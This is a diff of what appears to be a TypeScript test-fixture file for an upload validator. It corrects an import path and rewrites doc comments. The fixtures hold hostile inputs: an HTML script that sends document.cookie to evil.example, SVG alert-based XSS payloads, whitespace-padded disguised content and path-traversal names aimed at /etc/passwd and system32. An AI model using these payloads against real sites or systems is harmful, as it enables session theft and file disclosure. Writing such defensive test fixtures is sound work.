@@ -1,10 +1,10 @@
 import { deflateSync, gzipSync } from 'node:zlib'
-import { EICAR } from '../../../modules/platform/testing/fake-clamd.ts'
+import { EICAR } from '../../../../modules/platform/testing/fake-clamd.ts'
 
 export const HTML = '<!doctype html><html><script>fetch("//evil.example?"+document.cookie)</script></html>'
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
 
-/** What other things begin as, and pretend not to. */
+/** Contents of other file types, used to disguise them as accepted ones. */
 export const OTHERS: Readonly<Record<string, Buffer>> = {
   html: Buffer.from(HTML),
   'html after spaces': Buffer.from(`${' '.repeat(2000)}${HTML}`),
@@ -25,7 +25,7 @@ export const OTHERS: Readonly<Record<string, Buffer>> = {
   nothing: Buffer.alloc(0),
 }
 
-/** Endings of names that are not taken, near as they are. */
+/** File extensions that are refused although they resemble accepted ones. */
 export const ENDINGS = [
   '.html',
   '.svg',
@@ -39,7 +39,7 @@ export const ENDINGS = [
   '',
 ]
 
-/** Names that are something else where a file is saved, sent or shown. */
+/** File names that are dangerous when saved, sent or displayed. */
 export const NAMES = [
   '../../../etc/passwd.pdf',
   '..\\..\\windows\\system32\\a.pdf',
